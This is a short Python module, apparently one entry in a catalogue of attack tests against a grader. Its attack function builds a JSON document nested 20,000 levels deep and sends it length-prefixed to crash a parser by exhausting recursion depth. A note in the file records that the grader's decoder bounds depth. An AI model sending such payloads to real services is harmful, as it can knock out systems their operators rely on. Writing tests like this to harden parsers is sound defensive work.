"""Send JSON nested twenty thousand levels deep."""

KIND = "act"
OUTCOME = "ended"
OPEN = "the grader's decoder bounds depth"


def attack(target):
    import struct

    from .tools import send

    data = b'{"message": {"ok": ' + b"[" * 20000 + b"]" * 20000 + b'}, "arrays": []}'
    send(struct.pack("<I", len(data)) + data)
